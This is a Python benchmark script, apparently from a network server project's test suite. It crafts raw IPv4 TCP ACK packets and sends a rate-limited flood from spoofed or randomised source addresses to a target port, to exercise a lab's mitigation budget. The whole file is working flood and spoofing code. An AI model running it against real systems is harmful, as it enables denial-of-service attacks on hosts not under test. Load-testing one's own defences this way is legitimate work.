"""Sends a flood of random-tuple TCP ACKs at a bounded rate, as an attacker would.

    python -m tests.benchmarks.ackflood SOURCE DESTINATION PORT RATE SECONDS

Every packet is a bare ACK (no SYN: SYN cookies do nothing against it) from SOURCE with a
random source port and random sequence and acknowledgement numbers, to DESTINATION:PORT.
SOURCE may be a prefix (``100.64.0.0/10``): each packet then comes from a random address
inside it, so a flood spread over many client /24s meets the aggregate budget rather
than the per-source one (the sender's network must route the replies elsewhere and
must not filter by source: true of the rescue lab's routers). In any case
no server holds its flow, so without a copy budget each would be copied to every other
member of a rescue group. Sent through a raw IPv4 socket (root), paced in 10 ms slices so
the rate holds on a shared machine. Prints one JSON line: packets sent, seconds taken,
its own CPU seconds.
"""

from __future__ import annotations

import contextlib
import ipaddress
import json
import random
import socket
import struct
import sys
import time
from collections.abc import Callable

__all__ = ["ack_packet", "checksum", "main"]

_SLICE = 0.01


def checksum(data: bytes) -> int:
    """The Internet checksum (RFC 1071) of ``data``."""
    if len(data) % 2:
        data += b"\0"
    total: int = sum(struct.unpack(f"!{len(data) // 2}H", data))
    while total >> 16:
        total = (total & 0xFFFF) + (total >> 16)
    return ~total & 0xFFFF


def ack_packet(source: str, destination: str, sport: int, dport: int, seq: int, ack: int) -> bytes:
    """An IPv4 header and a 20-byte TCP header with only ACK set, checksums filled in."""
    src, dst = socket.inet_aton(source), socket.inet_aton(destination)
    tcp = struct.pack("!HHIIBBHHH", sport, dport, seq, ack, 5 << 4, 0x10, 65535, 0, 0)
    pseudo = src + dst + struct.pack("!BBH", 0, socket.IPPROTO_TCP, len(tcp))
    tcp = tcp[:16] + struct.pack("!H", checksum(pseudo + tcp)) + tcp[18:]
    header = struct.pack(
        "!BBHHHBBH4s4s", 0x45, 0, 20 + len(tcp), 0, 0x4000, 64, socket.IPPROTO_TCP, 0, src, dst
    )
    header = header[:10] + struct.pack("!H", checksum(header)) + header[12:]
    return header + tcp


def _sources(source: str, rng: random.Random) -> Callable[[], str]:
    """Where each packet comes from: one address, or a random one inside a prefix."""
    if "/" not in source:
        return lambda: source
    network = ipaddress.IPv4Network(source, strict=False)
    base, size = int(network.network_address), network.num_addresses
    return lambda: str(ipaddress.IPv4Address(base + rng.randrange(size)))


def flood(source: str, destination: str, port: int, rate: int, seconds: float) -> int:
    """Send ``rate`` packets a second for ``seconds``; the number sent."""
    sock = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
    rng = random.Random(0x5EED)
    pick = _sources(source, rng)
    per_slice = max(1, round(rate * _SLICE))
    sent, start = 0, time.monotonic()
    try:
        while (now := time.monotonic()) - start < seconds:
            due = int((now - start) * rate) + per_slice
            while sent < due:
                packet = ack_packet(
                    pick(),
                    destination,
                    rng.randrange(1024, 65536),
                    port,
                    rng.getrandbits(32),
                    rng.getrandbits(32),
                )
                # A full queue: the packet is lost, as on a real link.
                with contextlib.suppress(OSError):
                    sock.sendto(packet, (destination, 0))
                sent += 1
            time.sleep(_SLICE)
    finally:
        sock.close()
    return sent


def main() -> int:
    """Parse the arguments, flood, print the JSON line."""
    source, destination, port, rate, seconds = sys.argv[1:6]
    started = time.monotonic()
    sent = flood(source, destination, int(port), int(rate), float(seconds))
    took = round(time.monotonic() - started, 3)
    print(json.dumps({"sent": sent, "seconds": took, "cpu_seconds": time.process_time()}))
    return 0


if __name__ == "__main__":
    raise SystemExit(main())
